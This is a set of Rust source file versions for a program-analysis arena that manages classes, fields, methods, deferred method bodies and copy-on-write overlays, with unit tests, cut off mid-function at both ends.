        let mut seen = std::collections::HashSet::new();
        while let Some(c) = stack.pop() {
            if c == sup {
                return true;
            }
            if !seen.insert(c) {
                continue;
            }
            let cd = self.class(c);
            if let Some(s) = cd.superclass {
                stack.push(s);
            }
            stack.extend(cd.interfaces.iter().copied());
        }
        false
    }

    // ----- fields -------------------------------------------------------

    /// Declares a field on `class`.
    ///
    /// # Panics
    ///
    /// Panics if a field of that name already exists on the class.
    pub fn declare_field(&mut self, class: ClassId, name: &str, ty: Type, is_static: bool) -> FieldId {
        let sym = self.interner.intern(name);
        let id = FieldId::from_index(self.fields.len());
        let c = &mut self.classes[class.index()];
        assert!(
            !c.field_by_name.contains_key(&sym),
            "field declared twice on class"
        );
        c.fields.push(id);
        c.field_by_name.insert(sym, id);
        self.fields.push(Field { id, class, name: sym, ty, is_static });
        id
    }

    /// A field by id.
    pub fn field(&self, id: FieldId) -> &Field {
        &self.fields[id.index()]
    }

    /// Resolves a field by name on `class`, walking up the superclass
    /// chain. Creates nothing.
    pub fn resolve_field(&self, class: ClassId, name: Symbol) -> Option<FieldId> {
        for c in self.supers(class) {
            if let Some(f) = self.class(c).field_by_name(name) {
                return Some(f);
            }
        }
        None
    }

    /// Number of fields.
    pub fn field_count(&self) -> usize {
        self.fields.len()
    }

    // ----- methods ------------------------------------------------------

    /// Declares a method on `class`. Bodies are attached separately via
    /// [`Program::set_body`] (the [`crate::MethodBuilder`] does both).
    ///
    /// # Panics
    ///
    /// Panics if a method with the same subsignature already exists on
    /// the class.
    pub fn declare_method(
        &mut self,
        class: ClassId,
        name: &str,
        params: Vec<Type>,
        ret: Type,
        is_static: bool,
    ) -> MethodId {
        let name = self.interner.intern(name);
        let subsig = SubSig { name, params, ret };
        let id = MethodId::from_index(self.methods.len());
        let c = &mut self.classes[class.index()];
        assert!(
            !c.method_by_subsig.contains_key(&subsig),
            "method declared twice on class"
        );
        c.methods.push(id);
        c.method_by_subsig.insert(subsig.clone(), id);
        self.methods.push(Method {
            id,
            class,
            subsig,
            is_static,
            is_native: false,
            is_abstract: false,
            body: None,
        });
        id
    }

    /// Marks a method native (modeled by explicit rules, never analyzed).
    pub fn set_native(&mut self, method: MethodId, is_native: bool) {
        self.methods[method.index()].is_native = is_native;
    }

    /// Marks a method abstract.
    pub fn set_method_abstract(&mut self, method: MethodId, is_abstract: bool) {
        self.methods[method.index()].is_abstract = is_abstract;
    }

    /// Attaches a body to a method.
    ///
    /// # Panics
    ///
    /// Panics if the method already has a body.
    pub fn set_body(&mut self, method: MethodId, body: Body) {
        let m = &mut self.methods[method.index()];
        assert!(m.body.is_none(), "method body set twice");
        m.body = Some(body);
    }

    /// A method by id.
    pub fn method(&self, id: MethodId) -> &Method {
        &self.methods[id.index()]
    }

    /// Iterates all methods.
    pub fn methods(&self) -> impl Iterator<Item = &Method> {
        self.methods.iter()
    }

    /// Number of methods.
    pub fn method_count(&self) -> usize {
        self.methods.len()
    }

    /// Looks up a declared method by class name / method name when the
    /// subsignature is unique by name on that class. Convenience for
    /// tests and harnesses.
    pub fn find_method(&self, class: &str, name: &str) -> Option<MethodId> {
        let cid = self.find_class(class)?;
        let name = self.interner.get(name)?;
        let c = self.class(cid);
        let mut found = None;
        for &m in &c.methods {
            if self.method(m).subsig.name == name {
                if found.is_some() {
                    return None; // ambiguous
                }
                found = Some(m);
            }
        }
        found
    }

    /// Resolves a method reference to a concrete method by walking up
    /// the superclass chain from `MethodRef::class` (the "declared
    /// target" as used for `invokespecial`/`invokestatic` and as the CHA
    /// starting point for virtual dispatch).
    pub fn resolve_method_ref(&self, mref: &MethodRef) -> Option<MethodId> {
        for c in self.supers(mref.class) {
            if let Some(m) = self.class(c).method_by_subsig(&mref.subsig) {
                return Some(m);
            }
            // Also check interfaces for default-style declarations.
            for &i in self.class(c).interfaces() {
                if let Some(m) = self.class(i).method_by_subsig(&mref.subsig) {
                    return Some(m);
                }
            }
        }
        None
    }

    /// A human-readable full signature like
    /// `<com.example.Foo: java.lang.String bar(int)>`.
    pub fn signature(&self, method: MethodId) -> String {
        let m = self.method(method);
        let cls = self.class_name(m.class).to_owned();
        let ret = self.type_name(&m.subsig.ret);
        let name = self.str(m.subsig.name).to_owned();
        let params: Vec<String> = m.subsig.params.iter().map(|t| self.type_name(t)).collect();
        format!("<{}: {} {}({})>", cls, ret, name, params.join(","))
    }

    /// Resolves a type to its display name (`int`, `java.lang.String[]`, …).
    pub fn type_name(&self, ty: &Type) -> String {
        match ty {
            Type::Ref(c) => self.class_name(*c).to_owned(),
            Type::Array(e) => format!("{}[]", self.type_name(e)),
            other => other.to_string(),
        }
    }
}

/// Iterator over a class and its transitive superclasses.
pub struct Supers<'p> {
    program: &'p Program,
    cur: Option<ClassId>,
}

impl Iterator for Supers<'_> {
    type Item = ClassId;

    fn next(&mut self) -> Option<ClassId> {
        let cur = self.cur?;
        self.cur = self.program.class(cur).superclass();
        Some(cur)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn phantom_then_declare() {
        let mut p = Program::new();
        let id1 = p.class_id("a.B");
        assert!(!p.class(id1).is_declared());
        let id2 = p.declare_class("a.B", Some("java.lang.Object"), &[]);
        assert_eq!(id1, id2);
        assert!(p.class(id1).is_declared());
        assert!(p.class(p.find_class("java.lang.Object").unwrap()).superclass().is_none());
    }

    #[test]
    #[should_panic(expected = "declared twice")]
    fn double_declare_panics() {
        let mut p = Program::new();
        p.declare_class("X", None, &[]);
        p.declare_class("X", None, &[]);
    }

    #[test]
    fn subtype_via_interface() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let i = p.declare_interface("I", &[]);
        let c = p.declare_class("C", Some("java.lang.Object"), &["I"]);
        let d = p.declare_class("D", Some("C"), &[]);
        let obj = p.find_class("java.lang.Object").unwrap();
        assert!(p.is_subtype_of(d, i));
        assert!(p.is_subtype_of(d, obj));
        assert!(p.is_subtype_of(c, c));
        assert!(!p.is_subtype_of(c, d));
    }

    #[test]
    fn field_resolution_walks_supers() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &[]);
        let b = p.declare_class("B", Some("A"), &[]);
        let f = p.declare_field(a, "data", Type::Int, false);
        let name = p.lookup_symbol("data").unwrap();
        assert_eq!(p.resolve_field(b, name), Some(f));
        assert_eq!(p.field(f).class(), a);
    }

    #[test]
    fn method_ref_resolution_walks_supers() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &[]);
        let b = p.declare_class("B", Some("A"), &[]);
        let m = p.declare_method(a, "run", vec![], Type::Void, false);
        let subsig = p.method(m).subsig().clone();
        let mref = MethodRef { class: b, subsig };
        assert_eq!(p.resolve_method_ref(&mref), Some(m));
    }

    #[test]
    fn signature_formatting() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let c = p.declare_class("com.example.Foo", Some("java.lang.Object"), &[]);
        let s = p.ref_type("java.lang.String");
        let m = p.declare_method(c, "bar", vec![Type::Int, s.clone()], s, false);
        assert_eq!(
            p.signature(m),
            "<com.example.Foo: java.lang.String bar(int,java.lang.String)>"
        );
    }

    #[test]
    fn find_method_is_none_when_ambiguous() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        p.declare_method(c, "f", vec![], Type::Void, false);
        p.declare_method(c, "f", vec![Type::Int], Type::Void, false);
        assert_eq!(p.find_method("C", "f"), None);
    }
}
