//! The program arena: owns all classes, methods, fields and symbols.

use crate::body::Body;
use crate::class::{Class, ClassId, Field, FieldId, Method, MethodId, MethodRef, SubSig};
use crate::fxhash::FxHashMap;
use crate::symbols::{Interner, Symbol};
use crate::types::Type;
use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

/// Produces a method body on demand.
///
/// Frontends that can locate a method's body cheaply (e.g. a byte offset
/// into an SDEX image) register one of these via [`Program::defer_body`]
/// instead of decoding every body up front. The callgraph closure then
/// materializes only the bodies it actually reaches.
///
/// `materialize` receives the owning program because decoding may intern
/// strings or create phantom classes for referenced types. It must not
/// touch `method`'s own body slot; the caller installs the returned body.
pub trait BodySource: Send + Sync {
    /// Decodes the body identified by `token` (frontend-defined, e.g. a
    /// byte offset recorded while indexing).
    fn materialize(
        &self,
        program: &mut Program,
        method: MethodId,
        token: u64,
    ) -> Result<Body, String>;
}

/// A deferred body: the source that can decode it plus its token.
#[derive(Clone)]
pub(crate) struct PendingBody {
    pub(crate) source: Arc<dyn BodySource>,
    pub(crate) token: u64,
}

impl fmt::Debug for PendingBody {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("PendingBody").field("token", &self.token).finish()
    }
}

/// A whole program: the unit of analysis.
///
/// All other IR entities live inside a `Program` and are addressed by
/// copyable ids. Classes referenced before (or without) being declared
/// exist as *phantom* classes so that incremental construction and
/// linking against framework stubs always succeeds.
#[derive(Default, Debug, Clone)]
pub struct Program {
    interner: Interner,
    classes: Vec<Class>,
    class_by_name: HashMap<Symbol, ClassId>,
    methods: Vec<Method>,
    fields: Vec<Field>,
    pending: FxHashMap<MethodId, PendingBody>,
    bodies_materialized: u64,
}

impl Program {
    /// Creates an empty program.
    pub fn new() -> Self {
        Self::default()
    }

    // ----- symbols ------------------------------------------------------

    /// Interns a string.
    pub fn intern(&mut self, s: &str) -> Symbol {
        self.interner.intern(s)
    }

    /// Resolves a symbol to its string.
    pub fn str(&self, sym: Symbol) -> &str {
        self.interner.resolve(sym)
    }

    /// Looks up a symbol without interning.
    pub fn lookup_symbol(&self, s: &str) -> Option<Symbol> {
        self.interner.get(s)
    }

    // ----- classes ------------------------------------------------------

    /// Returns the id for `name`, creating a phantom class if it does not
    /// exist yet.
    pub fn class_id(&mut self, name: &str) -> ClassId {
        let sym = self.interner.intern(name);
        if let Some(&id) = self.class_by_name.get(&sym) {
            return id;
        }
        let id = ClassId::from_index(self.classes.len());
        self.classes.push(Class {
            id,
            name: sym,
            superclass: None,
            interfaces: Vec::new(),
            fields: Vec::new(),
            methods: Vec::new(),
            method_by_subsig: HashMap::new(),
            field_by_name: HashMap::new(),
            is_interface: false,
            is_abstract: false,
            is_declared: false,
        });
        self.class_by_name.insert(sym, id);
        id
    }

    /// Declares (or completes a phantom) class with the given superclass
    /// and interfaces.
    ///
    /// # Panics
    ///
    /// Panics if the class was already declared.
    pub fn declare_class(
        &mut self,
        name: &str,
        superclass: Option<&str>,
        interfaces: &[&str],
    ) -> ClassId {
        let id = self.class_id(name);
        let superclass = superclass.map(|s| self.class_id(s));
        let interfaces: Vec<ClassId> = interfaces.iter().map(|s| self.class_id(s)).collect();
        let c = &mut self.classes[id.index()];
        assert!(!c.is_declared, "class {name} declared twice");
        c.superclass = superclass;
        c.interfaces = interfaces;
        c.is_declared = true;
        id
    }

    /// Declares an interface.
    ///
    /// # Panics
    ///
    /// Panics if the interface was already declared.
    pub fn declare_interface(&mut self, name: &str, extends: &[&str]) -> ClassId {
        let id = self.declare_class(name, None, extends);
        self.classes[id.index()].is_interface = true;
        id
    }

    /// Marks a class as abstract.
    pub fn set_abstract(&mut self, class: ClassId, is_abstract: bool) {
        self.classes[class.index()].is_abstract = is_abstract;
    }

    /// A class by id.
    pub fn class(&self, id: ClassId) -> &Class {
        &self.classes[id.index()]
    }

    /// Looks up a class by name without creating a phantom.
    pub fn find_class(&self, name: &str) -> Option<ClassId> {
        let sym = self.interner.get(name)?;
        self.class_by_name.get(&sym).copied()
    }

    /// The fully qualified name of a class.
    pub fn class_name(&self, id: ClassId) -> &str {
        self.str(self.classes[id.index()].name)
    }

    /// Iterates all classes (declared and phantom).
    pub fn classes(&self) -> impl Iterator<Item = &Class> {
        self.classes.iter()
    }

    /// Number of classes (including phantoms).
    pub fn class_count(&self) -> usize {
        self.classes.len()
    }

    /// A `Type::Ref` for the named class (interning it as needed).
    pub fn ref_type(&mut self, name: &str) -> Type {
        Type::Ref(self.class_id(name))
    }

    /// Walks the superclass chain starting at (and including) `class`.
    pub fn supers(&self, class: ClassId) -> Supers<'_> {
        Supers { program: self, cur: Some(class) }
    }

    /// Returns `true` if `sub` equals `sup` or transitively extends /
    /// implements it.
    pub fn is_subtype_of(&self, sub: ClassId, sup: ClassId) -> bool {
        let mut stack = vec![sub];
        let mut seen = std::collections::HashSet::new();
        while let Some(c) = stack.pop() {
            if c == sup {
                return true;
            }
            if !seen.insert(c) {
                continue;
            }
            let cd = self.class(c);
            if let Some(s) = cd.superclass {
                stack.push(s);
            }
            stack.extend(cd.interfaces.iter().copied());
        }
        false
    }

    // ----- fields -------------------------------------------------------

    /// Declares a field on `class`.
    ///
    /// # Panics
    ///
    /// Panics if a field of that name already exists on the class.
    pub fn declare_field(&mut self, class: ClassId, name: &str, ty: Type, is_static: bool) -> FieldId {
        let sym = self.interner.intern(name);
        let id = FieldId::from_index(self.fields.len());
        let c = &mut self.classes[class.index()];
        assert!(
            !c.field_by_name.contains_key(&sym),
            "field declared twice on class"
        );
        c.fields.push(id);
        c.field_by_name.insert(sym, id);
        self.fields.push(Field { id, class, name: sym, ty, is_static });
        id
    }

    /// A field by id.
    pub fn field(&self, id: FieldId) -> &Field {
        &self.fields[id.index()]
    }

    /// Resolves a field by name on `class`, walking up the superclass
    /// chain. Creates nothing.
    pub fn resolve_field(&self, class: ClassId, name: Symbol) -> Option<FieldId> {
        for c in self.supers(class) {
            if let Some(f) = self.class(c).field_by_name(name) {
                return Some(f);
            }
        }
        None
    }

    /// Iterates all fields in declaration (arena) order.
    pub fn fields(&self) -> impl Iterator<Item = &Field> {
        self.fields.iter()
    }

    /// Number of fields.
    pub fn field_count(&self) -> usize {
        self.fields.len()
    }

    // ----- methods ------------------------------------------------------

    /// Declares a method on `class`. Bodies are attached separately via
    /// [`Program::set_body`] (the [`crate::MethodBuilder`] does both).
    ///
    /// # Panics
    ///
    /// Panics if a method with the same subsignature already exists on
    /// the class.
    pub fn declare_method(
        &mut self,
        class: ClassId,
        name: &str,
        params: Vec<Type>,
        ret: Type,
        is_static: bool,
    ) -> MethodId {
        let name = self.interner.intern(name);
        let subsig = SubSig { name, params, ret };
        let id = MethodId::from_index(self.methods.len());
        let c = &mut self.classes[class.index()];
        assert!(
            !c.method_by_subsig.contains_key(&subsig),
            "method declared twice on class"
        );
        c.methods.push(id);
        c.method_by_subsig.insert(subsig.clone(), id);
        self.methods.push(Method {
            id,
            class,
            subsig,
            is_static,
            is_native: false,
            is_abstract: false,
            body: None,
            body_pending: false,
        });
        id
    }

    /// Marks a method native (modeled by explicit rules, never analyzed).
    pub fn set_native(&mut self, method: MethodId, is_native: bool) {
        self.methods[method.index()].is_native = is_native;
    }

    /// Marks a method abstract.
    pub fn set_method_abstract(&mut self, method: MethodId, is_abstract: bool) {
        self.methods[method.index()].is_abstract = is_abstract;
    }

    /// Attaches a body to a method.
    ///
    /// # Panics
    ///
    /// Panics if the method already has a body (decoded or deferred).
    pub fn set_body(&mut self, method: MethodId, body: Body) {
        let m = &mut self.methods[method.index()];
        assert!(m.body.is_none(), "method body set twice");
        assert!(!m.body_pending, "method body already deferred");
        m.body = Some(body);
    }

    // ----- deferred bodies ----------------------------------------------

    /// Registers a deferred body for `method`. The method reports
    /// [`Method::has_body`] from here on, but [`Method::body`] stays
    /// `None` until [`Program::ensure_body`] materializes it.
    ///
    /// # Panics
    ///
    /// Panics if the method already has a decoded or deferred body.
    pub fn defer_body(&mut self, method: MethodId, source: Arc<dyn BodySource>, token: u64) {
        let m = &mut self.methods[method.index()];
        assert!(m.body.is_none(), "method body set twice");
        assert!(!m.body_pending, "method body already deferred");
        m.body_pending = true;
        self.pending.insert(method, PendingBody { source, token });
    }

    /// Materializes `method`'s deferred body if it has one. Returns
    /// `true` if a body was decoded by this call.
    ///
    /// Installation is atomic: the pending registration is cleared only
    /// after the source returns a complete body, so a panicking decode
    /// (or an aborted job unwinding mid-call) never leaves a
    /// partially-materialized body behind — the method simply stays
    /// pending.
    ///
    /// # Panics
    ///
    /// Panics if the registered [`BodySource`] reports a decode error;
    /// frontends validate body bytes when they defer, so an error here is
    /// a frontend bug, not bad input.
    pub fn ensure_body(&mut self, method: MethodId) -> bool {
        let Some(pending) = self.pending.get(&method).cloned() else {
            return false;
        };
        let body = match pending.source.materialize(self, method, pending.token) {
            Ok(body) => body,
            Err(e) => panic!("deferred body for {}: {e}", self.signature(method)),
        };
        self.pending.remove(&method);
        let m = &mut self.methods[method.index()];
        m.body_pending = false;
        m.body = Some(body);
        self.bodies_materialized += 1;
        true
    }

    /// Number of deferred bodies not yet materialized.
    pub fn pending_body_count(&self) -> usize {
        self.pending.len()
    }

    /// Returns `true` if any deferred bodies remain unmaterialized.
    pub fn has_pending_bodies(&self) -> bool {
        !self.pending.is_empty()
    }

    /// Number of deferred bodies materialized so far (monotonic counter;
    /// cloning a program clones the counter).
    pub fn bodies_materialized(&self) -> u64 {
        self.bodies_materialized
    }

    /// A method by id.
    pub fn method(&self, id: MethodId) -> &Method {
        &self.methods[id.index()]
    }

    /// Iterates all methods.
    pub fn methods(&self) -> impl Iterator<Item = &Method> {
        self.methods.iter()
    }

    /// Number of methods.
    pub fn method_count(&self) -> usize {
        self.methods.len()
    }

    /// Looks up a declared method by class name / method name when the
    /// subsignature is unique by name on that class. Convenience for
    /// tests and harnesses.
    pub fn find_method(&self, class: &str, name: &str) -> Option<MethodId> {
        let cid = self.find_class(class)?;
        let name = self.interner.get(name)?;
        let c = self.class(cid);
        let mut found = None;
        for &m in &c.methods {
            if self.method(m).subsig.name == name {
                if found.is_some() {
                    return None; // ambiguous
                }
                found = Some(m);
            }
        }
        found
    }

    /// Resolves a method reference to a concrete method by walking up
    /// the superclass chain from `MethodRef::class` (the "declared
    /// target" as used for `invokespecial`/`invokestatic` and as the CHA
    /// starting point for virtual dispatch).
    pub fn resolve_method_ref(&self, mref: &MethodRef) -> Option<MethodId> {
        for c in self.supers(mref.class) {
            if let Some(m) = self.class(c).method_by_subsig(&mref.subsig) {
                return Some(m);
            }
            // Also check interfaces for default-style declarations.
            for &i in self.class(c).interfaces() {
                if let Some(m) = self.class(i).method_by_subsig(&mref.subsig) {
                    return Some(m);
                }
            }
        }
        None
    }

    /// A human-readable full signature like
    /// `<com.example.Foo: java.lang.String bar(int)>`.
    pub fn signature(&self, method: MethodId) -> String {
        let m = self.method(method);
        let cls = self.class_name(m.class).to_owned();
        let ret = self.type_name(&m.subsig.ret);
        let name = self.str(m.subsig.name).to_owned();
        let params: Vec<String> = m.subsig.params.iter().map(|t| self.type_name(t)).collect();
        format!("<{}: {} {}({})>", cls, ret, name, params.join(","))
    }

    /// Resolves a type to its display name (`int`, `java.lang.String[]`, …).
    pub fn type_name(&self, ty: &Type) -> String {
        match ty {
            Type::Ref(c) => self.class_name(*c).to_owned(),
            Type::Array(e) => format!("{}[]", self.type_name(e)),
            other => other.to_string(),
        }
    }
}

/// Iterator over a class and its transitive superclasses.
pub struct Supers<'p> {
    program: &'p Program,
    cur: Option<ClassId>,
}

impl Iterator for Supers<'_> {
    type Item = ClassId;

    fn next(&mut self) -> Option<ClassId> {
        let cur = self.cur?;
        self.cur = self.program.class(cur).superclass();
        Some(cur)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn phantom_then_declare() {
        let mut p = Program::new();
        let id1 = p.class_id("a.B");
        assert!(!p.class(id1).is_declared());
        let id2 = p.declare_class("a.B", Some("java.lang.Object"), &[]);
        assert_eq!(id1, id2);
        assert!(p.class(id1).is_declared());
        assert!(p.class(p.find_class("java.lang.Object").unwrap()).superclass().is_none());
    }

    #[test]
    #[should_panic(expected = "declared twice")]
    fn double_declare_panics() {
        let mut p = Program::new();
        p.declare_class("X", None, &[]);
        p.declare_class("X", None, &[]);
    }

    #[test]
    fn subtype_via_interface() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let i = p.declare_interface("I", &[]);
        let c = p.declare_class("C", Some("java.lang.Object"), &["I"]);
        let d = p.declare_class("D", Some("C"), &[]);
        let obj = p.find_class("java.lang.Object").unwrap();
        assert!(p.is_subtype_of(d, i));
        assert!(p.is_subtype_of(d, obj));
        assert!(p.is_subtype_of(c, c));
        assert!(!p.is_subtype_of(c, d));
    }

    #[test]
    fn field_resolution_walks_supers() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &[]);
        let b = p.declare_class("B", Some("A"), &[]);
        let f = p.declare_field(a, "data", Type::Int, false);
        let name = p.lookup_symbol("data").unwrap();
        assert_eq!(p.resolve_field(b, name), Some(f));
        assert_eq!(p.field(f).class(), a);
    }

    #[test]
    fn method_ref_resolution_walks_supers() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &[]);
        let b = p.declare_class("B", Some("A"), &[]);
        let m = p.declare_method(a, "run", vec![], Type::Void, false);
        let subsig = p.method(m).subsig().clone();
        let mref = MethodRef { class: b, subsig };
        assert_eq!(p.resolve_method_ref(&mref), Some(m));
    }

    #[test]
    fn signature_formatting() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let c = p.declare_class("com.example.Foo", Some("java.lang.Object"), &[]);
        let s = p.ref_type("java.lang.String");
        let m = p.declare_method(c, "bar", vec![Type::Int, s.clone()], s, false);
        assert_eq!(
            p.signature(m),
            "<com.example.Foo: java.lang.String bar(int,java.lang.String)>"
        );
    }

    struct TestSource {
        stmts: Vec<crate::Stmt>,
        fail: bool,
    }

    impl BodySource for TestSource {
        fn materialize(
            &self,
            _program: &mut Program,
            _method: MethodId,
            _token: u64,
        ) -> Result<Body, String> {
            if self.fail {
                return Err("synthetic decode failure".into());
            }
            Ok(Body::new(Vec::new(), self.stmts.clone(), vec![0; self.stmts.len()]))
        }
    }

    #[test]
    fn deferred_body_counts_as_has_body_until_materialized() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        let m = p.declare_method(c, "f", vec![], Type::Void, true);
        let src = Arc::new(TestSource { stmts: vec![crate::Stmt::Return { value: None }], fail: false });
        p.defer_body(m, src, 0);
        assert!(p.method(m).has_body());
        assert!(p.method(m).body_is_pending());
        assert!(p.method(m).body().is_none());
        assert_eq!(p.pending_body_count(), 1);

        assert!(p.ensure_body(m));
        assert!(p.method(m).has_body());
        assert!(!p.method(m).body_is_pending());
        assert_eq!(p.method(m).body().unwrap().stmts().len(), 1);
        assert_eq!(p.pending_body_count(), 0);
        assert_eq!(p.bodies_materialized(), 1);

        // Second call is a no-op.
        assert!(!p.ensure_body(m));
        assert_eq!(p.bodies_materialized(), 1);
    }

    #[test]
    fn failed_materialization_leaves_method_pending() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        let m = p.declare_method(c, "f", vec![], Type::Void, true);
        p.defer_body(m, Arc::new(TestSource { stmts: vec![], fail: true }), 0);
        let err = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            p.ensure_body(m);
        }));
        assert!(err.is_err());
        // No partially-materialized body: the method is still pending and
        // body-less, exactly as before the attempt.
        assert!(p.method(m).body().is_none());
        assert!(p.method(m).body_is_pending());
        assert_eq!(p.pending_body_count(), 1);
        assert_eq!(p.bodies_materialized(), 0);
    }

    #[test]
    fn cloned_program_materializes_independently() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        let m = p.declare_method(c, "f", vec![], Type::Void, true);
        let src = Arc::new(TestSource { stmts: vec![crate::Stmt::Return { value: None }], fail: false });
        p.defer_body(m, src, 0);

        let mut clone = p.clone();
        assert!(clone.ensure_body(m));
        // The original is untouched by the clone's materialization.
        assert!(p.method(m).body().is_none());
        assert!(p.method(m).body_is_pending());
        assert_eq!(p.bodies_materialized(), 0);
        assert_eq!(clone.bodies_materialized(), 1);
    }

    #[test]
    fn find_method_is_none_when_ambiguous() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        p.declare_method(c, "f", vec![], Type::Void, false);
        p.declare_method(c, "f", vec![Type::Int], Type::Void, false);
        assert_eq!(p.find_method("C", "f"), None);
    }
}
