//! The program arena: owns all classes, methods, fields and symbols.

use crate::body::Body;
use crate::class::{Class, ClassId, Field, FieldId, Method, MethodId, MethodRef, SubSig};
use crate::fxhash::FxHashMap;
use crate::symbols::{Interner, Symbol};
use crate::types::Type;
use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

/// Produces a method body on demand.
///
/// Frontends that can locate a method's body cheaply (e.g. a byte offset
/// into an SDEX image) register one of these via [`Program::defer_body`]
/// instead of decoding every body up front. The callgraph closure then
/// materializes only the bodies it actually reaches.
///
/// `materialize` receives the owning program because decoding may intern
/// strings or create phantom classes for referenced types. It must not
/// touch `method`'s own body slot; the caller installs the returned body.
pub trait BodySource: Send + Sync {
    /// Decodes the body identified by `token` (frontend-defined, e.g. a
    /// byte offset recorded while indexing).
    fn materialize(
        &self,
        program: &mut Program,
        method: MethodId,
        token: u64,
    ) -> Result<Body, String>;
}

/// A deferred body: the source that can decode it plus its token.
#[derive(Clone)]
pub(crate) struct PendingBody {
    pub(crate) source: Arc<dyn BodySource>,
    pub(crate) token: u64,
}

impl fmt::Debug for PendingBody {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("PendingBody").field("token", &self.token).finish()
    }
}

/// The frozen, immutable half of a copy-on-write [`Program`].
///
/// A base holds fully built arenas (typically the Android platform model
/// decoded from `platform.fdps`) behind an `Arc` so any number of
/// concurrent jobs can layer cheap [`Program::overlay`]s on top of it
/// instead of deep-cloning the whole arena per job. Bases are created by
/// [`Program::freeze`] and are never mutated afterwards.
#[derive(Debug)]
pub struct ProgramBase {
    interner: Arc<Interner>,
    classes: Vec<Class>,
    class_by_name: HashMap<Symbol, ClassId>,
    methods: Vec<Method>,
    fields: Vec<Field>,
}

impl ProgramBase {
    /// Number of classes in the frozen arena.
    pub fn class_count(&self) -> usize {
        self.classes.len()
    }

    /// Number of methods in the frozen arena.
    pub fn method_count(&self) -> usize {
        self.methods.len()
    }

    /// Number of fields in the frozen arena.
    pub fn field_count(&self) -> usize {
        self.fields.len()
    }
}

/// A whole program: the unit of analysis.
///
/// All other IR entities live inside a `Program` and are addressed by
/// copyable ids. Classes referenced before (or without) being declared
/// exist as *phantom* classes so that incremental construction and
/// linking against framework stubs always succeeds.
///
/// A program is either *flat* (every arena owned directly — the default)
/// or an *overlay* over a shared frozen [`ProgramBase`]
/// ([`Program::overlay`]): base entities are read through the `Arc`,
/// job-local additions append to overlay arenas whose ids continue the
/// base numbering, and the rare mutation of a base entity (declaring a
/// phantom platform class, attaching a decoded body) copies just that
/// entity into a private override slot. Ids and symbols are numerically
/// identical to what a flat deep clone of the base would have produced,
/// so analysis results cannot depend on the representation.
#[derive(Default, Debug, Clone)]
pub struct Program {
    base: Option<Arc<ProgramBase>>,
    interner: Interner,
    classes: Vec<Class>,
    class_by_name: HashMap<Symbol, ClassId>,
    methods: Vec<Method>,
    fields: Vec<Field>,
    class_overrides: FxHashMap<u32, Class>,
    method_overrides: FxHashMap<u32, Method>,
    pending: FxHashMap<MethodId, PendingBody>,
    bodies_materialized: u64,
    materialization_log: Vec<MethodId>,
}

impl Program {
    /// Creates an empty program.
    pub fn new() -> Self {
        Self::default()
    }

    // ----- copy-on-write layering ---------------------------------------

    /// Freezes a flat program into an immutable shared base.
    ///
    /// # Panics
    ///
    /// Panics if the program is itself an overlay or still has deferred
    /// bodies (a base must be self-contained: every job layered on top
    /// shares it byte-for-byte and must never need to mutate it).
    pub fn freeze(self) -> Arc<ProgramBase> {
        assert!(self.base.is_none(), "cannot freeze an overlay program");
        assert!(self.pending.is_empty(), "cannot freeze a program with pending bodies");
        Arc::new(ProgramBase {
            interner: Arc::new(self.interner),
            classes: self.classes,
            class_by_name: self.class_by_name,
            methods: self.methods,
            fields: self.fields,
        })
    }

    /// Creates a cheap job-local overlay over a frozen base: no arena is
    /// copied; new classes/methods/fields/symbols append after the base's
    /// ids and mutations of base entities copy only the touched entity.
    pub fn overlay(base: Arc<ProgramBase>) -> Program {
        Program {
            interner: Interner::with_base(Arc::clone(&base.interner)),
            base: Some(base),
            classes: Vec::new(),
            class_by_name: HashMap::new(),
            methods: Vec::new(),
            fields: Vec::new(),
            class_overrides: FxHashMap::default(),
            method_overrides: FxHashMap::default(),
            pending: FxHashMap::default(),
            bodies_materialized: 0,
            materialization_log: Vec::new(),
        }
    }

    /// Deep-copies a frozen base back into a flat program (the
    /// deep-clone comparison path; overlays are the fast path).
    pub fn thaw(base: &ProgramBase) -> Program {
        Program {
            base: None,
            interner: (*base.interner).clone(),
            classes: base.classes.clone(),
            class_by_name: base.class_by_name.clone(),
            methods: base.methods.clone(),
            fields: base.fields.clone(),
            class_overrides: FxHashMap::default(),
            method_overrides: FxHashMap::default(),
            pending: FxHashMap::default(),
            bodies_materialized: 0,
            materialization_log: Vec::new(),
        }
    }

    /// Returns `true` if this program is an overlay over a shared base.
    pub fn is_overlay(&self) -> bool {
        self.base.is_some()
    }

    fn base_class_len(&self) -> usize {
        self.base.as_ref().map_or(0, |b| b.classes.len())
    }

    fn base_method_len(&self) -> usize {
        self.base.as_ref().map_or(0, |b| b.methods.len())
    }

    fn base_field_len(&self) -> usize {
        self.base.as_ref().map_or(0, |b| b.fields.len())
    }

    /// Mutable access to a class, copying a base class into a private
    /// override slot on first touch.
    fn class_mut(&mut self, id: ClassId) -> &mut Class {
        let i = id.index();
        if let Some(base) = &self.base {
            if i < base.classes.len() {
                return self
                    .class_overrides
                    .entry(i as u32)
                    .or_insert_with(|| base.classes[i].clone());
            }
            let off = base.classes.len();
